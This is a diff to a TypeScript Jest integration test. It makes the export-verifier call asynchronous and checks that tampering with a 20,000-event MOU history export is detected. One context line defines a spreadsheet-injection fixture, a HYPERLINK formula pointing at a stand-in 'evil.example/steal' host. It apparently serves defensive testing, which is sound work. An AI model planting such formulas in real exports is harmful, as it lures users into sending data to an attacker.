@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { openDatabase, SqliteEventStore } from '@pmt/event-store-sqlite';
 import { newId, officeDate, type PendingEvent } from '@pmt/kernel';
-import { spawnSync } from 'node:child_process';
+import { execFile } from 'node:child_process';
 import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
@@ -9,7 +9,13 @@ import { mouDecider, type MouCommand, type MouState } from '../../services/mous/
 import { startProduct, type Product } from '../support/product';
 
 const EVENTS = 20_000;
-const verifyExport = (file: string) => spawnSync(process.execPath, [join(__dirname, '../../scripts/verify-export.js'), file], { encoding: 'utf8' });
+// asynchronous, so that the test's event loop keeps serving its HTTP connections meanwhile
+const verifyExport = (file: string) =>
+  new Promise<{ status: number; stdout: string; stderr: string }>((resolve) =>
+    execFile(process.execPath, [join(__dirname, '../../scripts/verify-export.js'), file], (error, stdout, stderr) =>
+      resolve({ status: error ? ((error as { code?: number }).code ?? 1) : 0, stdout, stderr }),
+    ),
+  );
 const FORMULA = '=HYPERLINK("http://evil.example/steal","เปิดรายงาน")';
 const ORG_A = '0190a000-0000-7000-8000-00000000000a';
 const ORG_B = '0190a000-0000-7000-8000-00000000000b';
@@ -90,7 +96,7 @@ describe('a 20,000-event MOU history, through the running gateway and mous servi
     try {
       const path = join(dir, 'export.json');
       writeFileSync(path, r.text);
-      expect(verifyExport(path)).toMatchObject({ status: 0 });
+      expect(await verifyExport(path)).toMatchObject({ status: 0 });
       // one byte changed in the 12,345th event's data: the verifier names that version
       const at = r.text.indexOf('{"version":12345,');
       expect(at).toBeGreaterThan(0);
@@ -99,7 +105,7 @@ describe('a 20,000-event MOU history, through the running gateway and mous servi
       const offset = Buffer.byteLength(r.text.slice(0, digit));
       bytes[offset] = bytes[offset] === 0x39 ? 0x38 : bytes[offset] + 1;
       writeFileSync(path, bytes);
-      const tampered = verifyExport(path);
+      const tampered = await verifyExport(path);
       expect(tampered.status).toBe(1);
       expect(tampered.stdout + tampered.stderr).toContain('first bad version 12345');
       // and one byte of the header, which no event's hash covers: the service's attestation does
@@ -107,7 +113,7 @@ describe('a 20,000-event MOU history, through the running gateway and mous servi
       const stamp = r.text.indexOf('"exportedAt":"') + '"exportedAt":"'.length;
       header[stamp + 3] = header[stamp + 3] === 0x39 ? 0x38 : header[stamp + 3] + 1;
       writeFileSync(path, header);
-      expect(verifyExport(path)).toMatchObject({ status: 1, stdout: expect.stringContaining('attested') });
+      expect(await verifyExport(path)).toMatchObject({ status: 1, stdout: expect.stringContaining('attested') });
     } finally {
       rmSync(dir, { recursive: true, force: true });
     }
